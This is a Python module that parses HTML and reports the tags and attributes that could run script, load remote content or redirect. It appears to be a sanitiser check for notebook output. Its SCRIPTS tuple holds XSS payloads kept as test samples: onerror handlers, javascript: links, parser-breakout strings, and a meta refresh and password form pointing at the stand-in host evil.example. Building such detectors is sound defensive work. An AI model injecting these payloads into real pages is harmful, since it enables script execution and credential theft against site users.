"""Reads a page as a browser's parser would, and says what in it could act or load."""

from collections.abc import Iterator
from html.parser import HTMLParser

__all__ = ["SCRIPTS", "Element", "dangers", "elements", "text_of"]

# What hostile notebooks hold.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/x.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a><a href='data:text/html,x'>y</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example>",
    "<p style='background:url(http://evil.example)' onclick=alert(1)>x</p>",
    "<style>@import 'http://evil.example';</style>",
    "<form action=http://evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "</pre></div></section></main></body><script>alert(1)</script>",
    "--></style></script></title><script>alert(1)</script>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    '"><img src=x onerror=alert(1)>',
    "<img alt='<span data-math=\"0\"></span>' src=x>",
)

Element = tuple[str, dict[str, str]]

_ACTIVE = frozenset(
    [
        "script",
        "iframe",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "base",
        "link",
        "svg",
        "audio",
        "video",
        "source",
        "track",
        "picture",
        "template",
        "noscript",
        "frame",
        "frameset",
        "portal",
    ]
)
_LOADING = ("src", "srcset", "poster", "background", "data", "action", "formaction", "ping")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def elements(page: str) -> list[Element]:
    """Return the elements of a page with their attributes, in order."""
    reader = _Reader()
    reader.feed(page)
    return reader.elements


def text_of(page: str) -> str:
    """Return the text of a page."""
    reader = _Reader()
    reader.feed(page)
    return "".join(reader.texts)


def dangers(page: str) -> list[str]:
    """Return what in a page could run, load or lead astray; empty for a safe one."""
    found = elements(page)
    return [danger for tag, attributes in found for danger in _dangers_of(tag, attributes)]


def _dangers_of(tag: str, attributes: dict[str, str]) -> Iterator[str]:
    if tag in _ACTIVE:
        yield f"<{tag}>"
    if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
        yield "<meta refresh>"
    for name, value in attributes.items():
        if name.startswith("on") or name == "style":
            yield f"<{tag} {name}>"
        if name in _LOADING and not (tag == "img" and value.startswith("data:image/png;base64,")):
            yield f"<{tag} {name}={value[:60]}>"
        if name.endswith("href") and not value.startswith(("#", "http://", "https://", "mailto:")):
            yield f"<{tag} {name}={value[:60]}>"
